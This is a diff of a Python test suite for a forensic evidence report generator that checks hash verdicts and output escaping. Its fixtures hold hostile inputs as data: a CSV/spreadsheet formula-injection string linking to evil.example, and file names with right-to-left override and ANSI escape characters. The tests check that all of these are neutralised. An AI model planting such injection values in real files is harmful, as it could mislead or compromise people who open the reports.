@@ -106,7 +106,11 @@ def _hashes(manifest: dict) -> list[str]:
 
 def _counts(manifest: dict) -> list[str]:
     rows = {part["schema"]: part["rows"] for part in manifest["parts"]}
-    return [str(rows[name]) for name in ("artefacts", "messages", "media", "errors")]
+    hits = sum(hit["artefacts"] for hit in manifest["hash_set_hits"])  # the case holds no set: 0, as sealed
+    return [*(str(rows[name]) for name in COUNTED), str(hits)]
+
+
+COUNTED = ("artefacts", "messages", "media", "identifiers", "errors")
 
 
 def _csv(path: Path) -> list[list[str]]:
@@ -176,7 +180,7 @@ def _verify_line(case_dir: Path, *args: str) -> str:
     return result.output.splitlines()[-1]
 
 
-BAD_VERDICT = 'NOT VERIFIED: =HYPERLINK("http://evil.example/?x","click") acquisition hash expected sha256 (1 of 19 checks failed)'
+BAD_VERDICT = 'NOT VERIFIED: =HYPERLINK("http://evil.example/?x","click") acquisition hash expected sha256 (1 of 20 checks failed)'
 
 
 def test_pdf_holds_every_hash_and_escapes_hostile_names(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
@@ -191,7 +195,7 @@ def test_pdf_holds_every_hash_and_escapes_hostile_names(case: tuple[Path, Path, 
     _report(case_dir, "csv", tmp_path / "report.csv", key)
     stated = set(re.findall(r"\b[0-9a-f]{64}\b", (tmp_path / "report.csv").read_text(encoding="utf-8")))
     assert len(stated) >= 10 and sorted(stated - set(re.findall(r"\b[0-9a-f]{64}\b", text))) == []
-    assert re.search(r"Verdict: VERIFIED: 14 checks hold\n", text) and "NOT VERIFIED:" not in text
+    assert re.search(r"Verdict: VERIFIED: 15 checks hold\n", text) and "NOT VERIFIED:" not in text
     assert "JS/1\\u202egpj.exe\\x1b[31m\\x0aforged line" in text
     assert "phone\\x0aimage\\u202eraw.\\x1b[2Jdd" in text
     assert "Samsung phone, black \u2014 desk 4, \u4e09\u661f\u624b\u673a, \u0395\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ac" in text
@@ -211,7 +215,7 @@ def test_pdf_summary_first_footers_and_appendix(case: tuple[Path, Path, dict], t
     # the summary leads: one row, exhibit id (wrapped in its column), verdict, media hash, four counts
     assert pages[0].index("Summary") < pages[0].index("JS/1")
     (row,) = [line for line in pages[0].splitlines() if line.startswith("JS/1")]
-    assert re.fullmatch(r"JS/1\\u202egpj\.exe\\x1b\[\S*\s+VERIFIED: 14 checks hold\s+not checked\s+" + r"\s+".join(_counts(manifest)), row.strip()), row
+    assert re.fullmatch(r"JS/1\\u202egpj\.exe\\x1b\[\S*\s+VERIFIED: 15 checks hold\s+not checked\s+" + r"\s+".join(_counts(manifest)), row.strip()), row
     assert "Exhibit JS/1" not in pages[0] and "dfvfs" not in "".join(pages[:-1])
     assert "Appendix: tool and library versions" in pages[-1] and f"dfvfs {manifest['libraries']['dfvfs']}" in re.sub(r"\s+", " ", pages[-1])
 
@@ -225,9 +229,9 @@ def test_pdf_verdict_never_verified_beside_a_mismatch(mismatch_case: tuple[Path,
     summary = pages[0].splitlines()
     (bad_row,) = [line for line in summary if line.startswith(FORMULA_EXHIBIT[:12])]
     assert re.search(r"NOT VERIFIED:\s+MISMATCH\s+" + r"\s+".join(_counts(bad)) + "$", bad_row), bad_row
-    assert _counts(bad)[-1] == "1"  # the hash_mismatch row
+    assert _counts(bad)[-2:] == ["1", "0"]  # the hash_mismatch row, and no hash-set hit
     (good_row,) = [line for line in summary if line.startswith("-2 ")]  # pdftotext drops the leading space
-    assert re.fullmatch(r"-2\s+VERIFIED: 19 checks hold\s+MATCH\s+" + r"\s+".join(_counts(good)), good_row.rstrip()), good_row
+    assert re.fullmatch(r"-2\s+VERIFIED: 20 checks hold\s+MATCH\s+" + r"\s+".join(_counts(good)), good_row.rstrip()), good_row
     bad_pages = [page for page in pages if "Verdict: NOT VERIFIED" in _flat(page)]
     assert f"Verdict:{_squeezed(BAD_VERDICT)}Exhibitcase" in _squeezed(bad_pages[0])
     assert re.search(rf"expected sha256\s+FAILS: expected {WRONG_SHA256},\s+computed {bad['source']['stream_sha256']}: MISMATCH", text)
@@ -244,13 +248,13 @@ def test_html_summary_verdicts_and_style(mismatch_case: tuple[Path, Path, dict, 
     source = page.read_text(encoding="utf-8")
     parsed = _html(page)
     assert parsed.tables["summary"] == [
-        ["exhibit", "verdict", "media hash", "artefacts", "messages", "media", "errors"],
-        [SPACED_EXHIBIT, "VERIFIED: 19 checks hold", "MATCH", *_counts(good)],
+        ["exhibit", "verdict", "media hash", "artefacts", "messages", "media", "identifiers", "errors", "hash-set hits"],
+        [SPACED_EXHIBIT, "VERIFIED: 20 checks hold", "MATCH", *_counts(good)],
         [FORMULA_EXHIBIT, BAD_VERDICT, "MISMATCH", *_counts(bad)],
     ]
     assert "<style>" in source and "@media print" in source
     assert "<td class='verdict fail'>NOT VERIFIED: =HYPERLINK(&quot;http://evil.example/?x&quot;,&quot;click&quot;) acquisition" in source
-    assert "<td class='verdict ok'>VERIFIED: 19 checks hold</td>" in source
+    assert "<td class='verdict ok'>VERIFIED: 20 checks hold</td>" in source
     assert f"<span class='hash'>{bad['root_digest']}</span>" in source
     assert source.index("class='summary'") < source.index("<h2>Exhibit") < source.index("Appendix: tool and library versions") < source.index("dfvfs")
     assert LEAKS.search("".join(parsed.text)) is None
@@ -263,7 +267,7 @@ def test_html_escapes_hostile_names(case: tuple[Path, Path, dict], tmp_path: Pat
     html_text = page.read_text()
     assert all(value in html_text for value in _hashes(manifest))
     assert "\u202e" not in html_text and "\x1b" not in html_text
-    assert _html(page).tables["summary"][1][:3] == [ESCAPED_HOSTILE, "VERIFIED: 14 checks hold", "not checked"]
+    assert _html(page).tables["summary"][1][:3] == [ESCAPED_HOSTILE, "VERIFIED: 15 checks hold", "not checked"]
 
 
 def test_csv_cells_cannot_start_formulas(mismatch_case: tuple[Path, Path, dict, dict], tmp_path: Path) -> None:
@@ -276,10 +280,10 @@ def test_csv_cells_cannot_start_formulas(mismatch_case: tuple[Path, Path, dict, 
     assert [cell for cell in cells if cell and (cell[:1] in "=+-@\t\r" or cell.lstrip()[:1] in "=+-@")] == []
     quoted_bad, quoted_good = "'" + FORMULA_EXHIBIT, "' -2"
     summary = {(r[0], r[2]): r[3] for r in rows[1:] if r[1] == "Summary"}
-    assert summary == {(quoted_good, "verdict"): "VERIFIED: 19 checks hold", (quoted_good, "media hash"): "MATCH",
-                       **{(quoted_good, name): count for name, count in zip(("artefacts", "messages", "media", "errors"), _counts(good))},
+    assert summary == {(quoted_good, "verdict"): "VERIFIED: 20 checks hold", (quoted_good, "media hash"): "MATCH",
+                       **{(quoted_good, name): count for name, count in zip((*COUNTED, "hash-set hits"), _counts(good))},
                        (quoted_bad, "verdict"): BAD_VERDICT, (quoted_bad, "media hash"): "MISMATCH",
-                       **{(quoted_bad, name): count for name, count in zip(("artefacts", "messages", "media", "errors"), _counts(bad))}}
+                       **{(quoted_bad, name): count for name, count in zip((*COUNTED, "hash-set hits"), _counts(bad))}}
     assert rows[1][1] == "Summary" and rows[len(summary)][1] == "Summary"  # the summary leads
     items = {(r[0], r[1], r[2]): r[3] for r in rows[1:]}
     assert items[(quoted_bad, "Exhibit", "examiner")] == "'" + FORMULA_EXAMINER
@@ -306,7 +310,7 @@ def test_csv_without_trusted_key_names_what_failed(case: tuple[Path, Path, dict]
     by_item = {(r[1], r[2]): r[3] for r in _csv(table)[1:]}
     assert by_item[("Seal", "manifest root digest (SHA-256)")] == manifest["root_digest"]
     assert by_item[("Source", "media SHA256")] == manifest["source"]["stream_sha256"]
-    assert by_item[("Summary", "verdict")] == f"NOT VERIFIED: custody signatures, {ESCAPED_HOSTILE} signature (2 of 13 checks failed)"
+    assert by_item[("Summary", "verdict")] == f"NOT VERIFIED: custody signatures, {ESCAPED_HOSTILE} signature (2 of 14 checks failed)"
     assert by_item[("Verification", f"custody event 1 (ingested {ESCAPED_HOSTILE})")].startswith("holds: sha256 ")
     assert by_item[("Verification", "custody signatures")] == (
         "FAILS: not checked against any trusted key (none given); 2 of 2 events carry a signature, which proves nothing until its key is trusted")
@@ -373,7 +377,7 @@ def test_manifest_without_a_field_is_reported_not_verified(case: tuple[Path, Pat
     table = tmp_path / "report.csv"
     _report(copy, "csv", table, key)
     by_item = {(r[1], r[2]): r[3] for r in _csv(table)[1:]}
-    assert by_item[("Summary", "verdict")] == f"NOT VERIFIED: {ESCAPED_HOSTILE} root digest, {ESCAPED_HOSTILE} signature (2 of 14 checks failed)"
+    assert by_item[("Summary", "verdict")] == f"NOT VERIFIED: {ESCAPED_HOSTILE} root digest, {ESCAPED_HOSTILE} signature (2 of 15 checks failed)"
     assert by_item[("Exhibit", "manifest")] == "lacks or mistypes a field: KeyError('outcome')"
     assert by_item[("Summary", "artefacts")] == "\u2014"
 
@@ -435,9 +439,9 @@ def test_report_verdict_is_the_verify_verdict(scenario: str, case: tuple[Path, P
         case_dir = tmp_path / "OP-1"
         _strip_first_signature(case_dir)
     expected = _verify_line(case_dir, *keys, *[arg for exhibit in exhibits for arg in ("--exhibit", exhibit)])
-    assert expected == {"good": "VERIFIED: 14 checks hold", "wrong expected hash": BAD_VERDICT,
-                        "no trusted key": f"NOT VERIFIED: custody signatures, {ESCAPED_HOSTILE} signature (2 of 13 checks failed)",
-                        "event unsigned": "NOT VERIFIED: custody event 0 signature (1 of 14 checks failed)"}[scenario]
+    assert expected == {"good": "VERIFIED: 15 checks hold", "wrong expected hash": BAD_VERDICT,
+                        "no trusted key": f"NOT VERIFIED: custody signatures, {ESCAPED_HOSTILE} signature (2 of 14 checks failed)",
+                        "event unsigned": "NOT VERIFIED: custody event 0 signature (1 of 15 checks failed)"}[scenario]
     assert _report_verdicts(case_dir, tmp_path, keys, exhibits) == _in_every_format(expected)
 
 
@@ -509,7 +513,7 @@ def test_sealed_tables_that_cannot_be_read_are_lines_not_tracebacks(case: tuple[
     assert by_item[("Messages", "messages.parquet")].startswith("cannot be read: ")
     assert by_item[("Photos and videos", "media.parquet")] == "cannot be read: is a symbolic link; not followed"
     assert by_item[("Summary", "verdict")] == _verify_line(copy, "--trusted-key", str(key))
-    assert by_item[("Summary", "verdict")].endswith(f"{ESCAPED_HOSTILE} part media.parquet, {ESCAPED_HOSTILE} part messages.parquet (2 of 14 checks failed)")
+    assert by_item[("Summary", "verdict")].endswith(f"{ESCAPED_HOSTILE} part media.parquet, {ESCAPED_HOSTILE} part messages.parquet (2 of 15 checks failed)")
 
 
 def _nested(path: Path, column: str) -> None:
@@ -529,7 +533,7 @@ def test_nested_column_in_a_sealed_table_is_not_summarised_and_verdict_stays_ver
     _nested(folder / "messages.parquet", "app")
     _nested(folder / "media.parquet", "container_format")
     expected = _verify_line(copy, "--trusted-key", str(key))
-    assert expected == f"NOT VERIFIED: {ESCAPED_HOSTILE} part media.parquet, {ESCAPED_HOSTILE} part messages.parquet (2 of 14 checks failed)"
+    assert expected == f"NOT VERIFIED: {ESCAPED_HOSTILE} part media.parquet, {ESCAPED_HOSTILE} part messages.parquet (2 of 15 checks failed)"
     assert _report_verdicts(copy, tmp_path, ["--trusted-key", str(key)], []) == _in_every_format(expected)
     rows = [r for r in _csv(tmp_path / "report.csv")[1:] if r[1] in ("Messages", "Photos and videos")]
     assert rows == [[ESCAPED_HOSTILE, "Messages", "messages.parquet", "cannot be summarised: ArrowTypeError: column app is list<element: int64>, not a string"],
